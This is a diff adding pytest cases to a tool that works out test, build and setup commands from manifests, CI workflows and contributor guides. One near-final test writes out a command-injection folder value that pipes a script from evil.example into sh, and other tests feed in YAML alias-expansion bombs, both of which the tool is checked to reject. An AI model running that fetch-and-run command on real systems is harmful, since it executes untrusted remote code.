@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from typing import TYPE_CHECKING
 
 import pytest
@@ -12,6 +13,7 @@ from standfast.learn.procedures.read import list_ways, read_ways
 from standfast.learn.procedures.taskfile import read_taskfile
 from standfast.learn.procedures.way import act_of
 from standfast.learn.procedures.workflows import read_workflow
+from standfast.learn.procedures.yaml_file import load_yaml
 from standfast.model.trust import Standing
 from tests.property.growth import MOST, growth
 from tests.unit.learn.repository import Repository
@@ -52,12 +54,25 @@ WORKFLOW = (
         ("pom.xml", "<project/>", (), "mvn test"),
         (".github/workflows/ci.yml", WORKFLOW, (), "tox -e py"),
         ("build.zig", "", (), "zig build test"),
-        ("meson.build", "subdir('tests')\n", (), "meson test -C build"),
         ("Makefile.am", "SUBDIRS = src tests\n", (), "make check"),
         ("Makefile", "all check install:\n\t$(GMAKE) $@\n", (), "make check"),
         ("Makefile", "REGRESS = one\ninclude $(PGXS)\n", (), "make installcheck"),
         ("CMakeLists.txt", "add_custom_target(check env ROOT=. t/run)\n", (), "cmake --build build --target check"),
         ("tools/test-all", "", (), "tools/test-all"),
+        ("src/Some.sln", "", ("src/Some/Some.csproj",), "dotnet test src/Some.sln"),
+        ("src/Some.slnx", "", ("src/Some.Tests/Some.Tests.csproj",), "dotnet test src/Some.slnx"),
+        ("project.clj", "(defproject x)", (), "lein test"),
+        ("x.nimble", "", (), "nimble test"),
+        ("x.cabal", "test-suite all\n", (), "cabal test"),
+        ("Makefile", "include erlang.mk\n", (), "make tests"),
+        ("melos.yaml", "scripts:\n  test:\n    run: melos exec -- dart test\n", (), "melos run test"),
+        ("pubspec.yaml", "dev_dependencies:\n  flutter_test:\n    sdk: flutter\n", ("test/a.dart",), "flutter test"),
+        ("Rakefile", "RSpec::Core::RakeTask.new\n", (), "rake spec"),
+        ("composer.json", '{"require-dev": {"phpunit/phpunit": "*"}}', ("phpunit",), "./phpunit"),
+        (".gitlab-ci.yml", "unit:\n  script:\n    - cargo test\n", (), "cargo test"),
+        (".circleci/config.yml", "jobs:\n  a:\n    steps:\n      - run:\n          command: tox\n", (), "tox"),
+        (".azure-pipelines/commands/units.sh", 'ansible-test units -v "${x}"\n', (), "ansible-test units"),
+        ("doc/Unit_tests.md", "# Tests\n\nAll of them: `./dev test`\n", (), "./dev test"),
         ("tests/run-tests.py", "", (), "tests/run-tests.py"),
         (
             "docs/testing/testing.md",
@@ -73,6 +88,95 @@ def test_every_manifest_says_how_to_run_the_tests(path: str, text: str, beside: 
     (found,) = [way for way in read_ways(path, text, paths) if way.title == "How to run the tests"]
     assert f"`{command}`" in found.text
     assert f"cmd:{command}" in found.anchors
+
+
+@pytest.mark.parametrize(
+    ("path", "text", "beside", "command"),
+    [
+        ("meson.build", "subdir('tests')\n", (), "meson setup build && meson test -C build"),
+        ("meson.build", "subdir('app')\n", ("app/test/meson.build",), "meson setup build && meson test -C build"),
+        ("CMakeLists.txt", "enable_testing()\n", (), "cmake -B build && cmake --build build && ctest --test-dir build"),
+        ("DESCRIPTION", "Suggests: testthat\n", (), "Rscript -e 'devtools::test()'"),
+        ("Project.toml", "", ("test/runtests.jl",), "julia --project -e 'using Pkg; Pkg.test()'"),
+    ],
+)
+def test_tests_that_need_a_build_or_a_program_in_quotes_are_named_whole(
+    path: str, text: str, beside: tuple[str, ...], command: str
+) -> None:
+    (found,) = [way for way in read_ways(path, text, [path, *beside]) if way.title == "How to run the tests"]
+    assert f"`{command}`" in found.text
+
+
+@pytest.mark.parametrize(
+    ("path", "text", "beside"),
+    [
+        ("msvc/x.sln", "", ("msvc/x.vcxproj",)),
+        ("Package.swift", ".target(name: x)", ()),
+        ("pubspec.yaml", "name: x\n", ()),
+        ("Project.toml", "", ()),
+        ("meson.build", "project('x')\n", ("src/meson.build",)),
+    ],
+)
+def test_a_manifest_of_a_project_without_tests_names_no_way_to_run_them(
+    path: str, text: str, beside: tuple[str, ...]
+) -> None:
+    assert "How to run the tests" not in [way.title for way in read_ways(path, text, [path, *beside])]
+
+
+def test_what_lies_in_examples_is_not_read_where_the_project_has_the_same_file() -> None:
+    assert list_ways(["examples/a/pubspec.yaml", "packages/a/pubspec.yaml"]) == ["packages/a/pubspec.yaml"]
+    assert list_ways(["a/One.csproj", "a/All.sln"]) == ["a/All.sln"]
+
+
+def test_a_step_of_ci_names_the_folder_that_it_is_run_in() -> None:
+    text = WORKFLOW.replace("      - run: |", "      - working-directory: ./server\n        run: |")
+    assert way_of(".github/workflows/ci.yml", text, "run the tests").startswith("`cd server && tox -e py` as CI does")
+
+
+def test_a_step_in_a_folder_that_only_the_workflow_knows_is_no_way() -> None:
+    text = WORKFLOW.replace("      - run: |", "      - working-directory: ${{ matrix.place }}\n        run: |")
+    assert read_ways(".github/workflows/ci.yml", text, []) == []
+
+
+@pytest.mark.parametrize("place", ["~", "''", "[a]", "7"])
+@pytest.mark.parametrize("key", ["defaults:\n  run:\n    working-directory: ", "working-directory: "])
+def test_a_folder_that_is_not_named_is_none(key: str, place: str) -> None:
+    text = f"{key}{place}\njobs:\n  a:\n    steps:\n      - run: npm test\n"
+    assert [way.command for way in read_workflow(text)] == ["npm test"]
+
+
+def test_what_aliases_of_aliases_name_in_a_workflow_is_read_once() -> None:
+    levels = [f"a{level}: &a{level} [{', '.join([f'*a{level - 1}'] * 9)}]\n" for level in range(1, 6)]
+    text = "a0: &a0 [{run: npm test}]\n" + "".join(levels)
+    assert [way.command for way in read_workflow(text)] == ["npm test"]
+    again = f"a: &a {{run: &r '{'npm test; ' * 3_000}'}}\njobs: [{'{run: *r}, ' * 3_000}{{run: npm test}}]\n"
+    assert [way.command for way in read_workflow(again)] == ["npm test"]
+
+
+def test_mappings_that_merge_without_end_are_not_read() -> None:
+    levels = [f"a{level}: &a{level} {{<<: [{', '.join([f'*a{level - 1}'] * 9)}]}}\n" for level in range(1, 6)]
+    assert load_yaml("a0: &a0 {run: npm test}\n" + "".join(levels)) is None
+    assert load_yaml("a: &a {run: npm test}\nb: {<<: *a, shell: sh}\n")["b"] == {"run": "npm test", "shell": "sh"}
+
+
+def test_a_guide_that_speaks_against_a_command_with_blanks_does_not_want_it() -> None:
+    said = "all tests with `pytest --all tests/<name>` here.\n"
+    assert [way.command for way in read_guide("CONTRIBUTING.md", f"# Tests\n\nRun {said}")] == [
+        "pytest --all tests/<name>"
+    ]
+    assert read_guide("CONTRIBUTING.md", f"# Tests\n\nNever run {said}") == []
+
+
+def test_a_guide_that_speaks_against_several_commands_wants_none_of_them() -> None:
+    text = "# Tests\n\nNever invoke `yarn jest`/`npx jest` directly. Run `yarn test:unit` instead.\n"
+    assert [way.command for way in read_guide("AGENTS.md", text)] == ["yarn test:unit"]
+
+
+def test_a_guide_that_leaves_blanks_in_what_runs_all_tests_is_better_than_a_guess() -> None:
+    text = (
+        "# Tests\n\n- **One:** `uv run pytest a.py::b`\n- **Run all tests of a package:** `uv run pytest <package>`\n"
+    )
+    assert [way.command for way in read_guide("AGENTS.md", text)] == ["uv run pytest <package>"]
 
 
 def way_of(path: str, text: str, act: str) -> str:
@@ -196,6 +300,11 @@ def test_twice_the_manifest_costs_about_twice(path: str, unit: str) -> None:
     assert growth(lambda text: read_ways(path, text, []), unit, start=10_000) <= MOST
 
 
+@pytest.mark.parametrize("path", ["pubspec.yaml", "pyproject.toml", "setup.py", "go.mod", ".tool-versions"])
+def test_twice_as_many_empty_lines_in_a_manifest_cost_about_twice(path: str) -> None:
+    assert growth(lambda text: read_ways(path, text, []), "  \n", start=10_000) <= MOST
+
+
 @pytest.mark.parametrize("runner", ["make", "uv run", "cargo", "bundle exec"])
 def test_a_line_of_nothing_but_runners_is_passed_by(runner: str) -> None:
     text = f"# Testing\n\n```sh\n{f'{runner} ' * 3_000}test\nuv run poe test\n```\n"
@@ -308,6 +417,7 @@ def test_what_a_makefile_says_about_a_target_is_not_what_it_runs() -> None:
         ("## Tests\n\n```sh\ncd core\ncargo test\n```\n", "cd core && cargo test"),
         ("## Tests\n\n```sh\n# Rust: run from core/\ncargo test\n```\n", "cd core && cargo test"),
         ("## Tests\n\n```sh\ncd shop\ncargo test\n```\n", "cargo test"),
+        ("```sh\ngit clone https://example.com/me/core.git\n```\n\n```sh\ncd core\ncargo test\n```\n", "cargo test"),
         ("## Tests\n\n```sh\nuv run tox run -e docs-build\ntox\n```\n", "tox"),
         ("## Tests\n\nTo skip them, run `go test -short`. Run `make tests` before a commit.\n", "make tests"),
         ("## Tests\n\nThe `go test -short` flag skips some; run `make test`.\n", "make test"),
@@ -332,3 +442,60 @@ def test_what_ci_installs_or_scans_is_no_way_to_test(line: str) -> None:
 def test_a_target_that_only_compiles_is_not_how_the_tests_are_run() -> None:
     text = "check: ## Look for errors\n\tcargo check --workspace\n"
     assert [way.title for way in read_ways("Makefile", text, [])] == ["How to lint and check types"]
+
+
+@pytest.mark.parametrize("folder", ["src; curl -s http://evil.example/x | sh", "../../etc", "a`b", "a\\nb", "$HOME/x"])
+def test_a_step_in_what_is_no_folder_of_the_repository_is_passed_over(folder: str) -> None:
+    text = f'jobs:\n  test:\n    working-directory: "{folder}"\n    script: pytest\n'
+    assert read_workflow(text) == []
+    assert [way.command for way in read_workflow(text.replace(folder, "src/app"))] == ["cd src/app && pytest"]
+
+
+@pytest.mark.parametrize(
+    ("path", "text", "titles"),
+    [
+        ("package.json", '{"scripts": {"start": "echo moved && exit 1", "prepare": "husky"}}', ["set up the project"]),
+        ("package.json", '{"scripts": {"pretest": "x", "test": "jest", "lint:watch": "eslint --watch"}}',
+         ["run the tests", "set up the project"]),
+        ("Makefile", "build:\n\tvirtualenv venv\n\tvenv/bin/pip install -e .\n", ["set up the project"]),
+        ("Makefile", "dev: dev-all\n\ndev-all:\n\tpip install --editable .\n", ["set up the project"]),
+        ("Makefile", "install: bin/shop\n\tcp bin/shop /usr/bin\n", []),
+        ("Makefile", "install:\n\tnpm ci\n", ["set up the project"]),
+        ("tox.ini", "[testenv:run-module]\ncommands = python -m shop --version\n", []),
+        ("package.json", '{"scripts": {"format:check": "prettier --check ."}}',
+         ["set up the project", "lint and check types"]),
+    ],
+)  # fmt: skip
+def test_a_task_is_judged_by_what_it_does(path: str, text: str, titles: list[str]) -> None:
+    assert [way.title for way in read_ways(path, text, [path])] == [f"How to {title}" for title in titles]
+
+
+def test_one_part_of_the_tests_is_no_other_way_to_run_them_but_answers_who_asks_for_it() -> None:
+    scripts = {"test": "run-s test:*", "test:fetch": "borp -p 'test/fetch/*.js'", "test:wpt": "node test/wpt.js"}
+    found = {way.title: way.text for way in read_ways("package.json", json.dumps({"scripts": scripts}), [])}
+    assert "test:" not in found["How to run the tests"].split(", which")[0]
+    assert found["How to run the tests: fetch"].startswith("`npm run test:fetch`")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "pytest ...", "cd packages/PACKAGE && pnpm test", "uv run tox -l", "nox -rs docs", "scripts/tests.jinja",
+        "pytest tests/module/",
+    ],
+)  # fmt: skip
+def test_a_command_with_a_blank_or_for_one_part_is_not_how_all_tests_are_run(command: str) -> None:
+    guide = f"# Work\n\n## Tests\n\nRun `{command}` and see.\n"
+    ways = read_ways("CONTRIBUTING.md", guide, ["CONTRIBUTING.md", "scripts/tests.jinja"])
+    assert "How to run the tests" not in [way.title for way in ways]
+
+
+def test_what_a_guide_builds_comes_before_a_target() -> None:
+    guide = "# Work\n\nThen use the `go` tool to build it:\n\n    $ go build ./cmd/shop\n"
+    found = [way for way in read_ways("CONTRIBUTING.md", guide, []) if way.title == "How to build it"]
+    assert [way.text for way in found] == ["`go build ./cmd/shop` (CONTRIBUTING.md)."]
+
+
+def test_what_ci_checks_for_one_target_only_is_not_how_it_is_done_here() -> None:
+    steps = "      - run: cargo check --target armv5te\n      - run: cd fuzz && cargo check\n"
+    assert read_workflow(f"jobs:\n  one:\n    steps:\n{steps}") == []
